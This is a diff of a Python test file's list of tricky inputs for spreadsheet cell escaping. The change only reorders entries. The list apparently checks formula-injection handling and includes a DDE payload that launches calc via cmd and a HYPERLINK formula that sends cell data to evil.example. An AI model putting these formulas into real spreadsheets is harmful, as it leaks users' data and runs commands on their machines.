@@ -11,11 +11,12 @@ from core.annotation.cells import from_cell, json_cell, json_line, to_cell
 
 LEADS = "=+-@\t\r\n＝＋－＠"
 NASTY = (
-    "", "'", "''", "plain", "=1+1", "'=1+1", "''=1", " =1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
-    "\n=1", "a\n=1", "a\r\n-1", "a,=1", 'a";=cmd|\' /C calc\'!A0', "a;=1", "x|@y", "＝1", "\\",
-    "\\n", "\\\\n", "C:\\new", "\x00", "\x1f", "\x7f", "\x85", "\u2028", "\ud800", "a\udfffb",
-    "日本語", "🙂", "e\u0301", "\u202eabc", "\ufeff", '"', '""', ",", ";", "-", "=", "=" * 50, "1e5",
-    "a-b=c+d@e", '=HYPERLINK("http://evil.example?"&A1,"x")', "it's", "don't -x", "\\u0041", "\\x",
+    "", "'", "''", "plain", "=1+1", "'=1+1", "''=1", " =1", "+1", "-1", "@SUM(A1)", "\t=1",
+    "\r=1", "\n=1", "a\n=1", "a\r\n-1", "a,=1", 'a";=cmd|\' /C calc\'!A0', "a;=1", "x|@y", "＝1",
+    "\\", "\\n", "\\\\n", "C:\\new", "\x00", "\x1f", "\x7f", "\x85", "\u2028", "\ud800",
+    "a\udfffb", "日本語", "🙂", "e\u0301", "\u202eabc", "\ufeff", '"', '""', ",", ";", "-", "=",
+    "1e5", "=" * 50, "a-b=c+d@e", '=HYPERLINK("http://evil.example?"&A1,"x")', "it's", "don't -x",
+    "\\u0041", "\\x",
 )  # fmt: skip
 
 
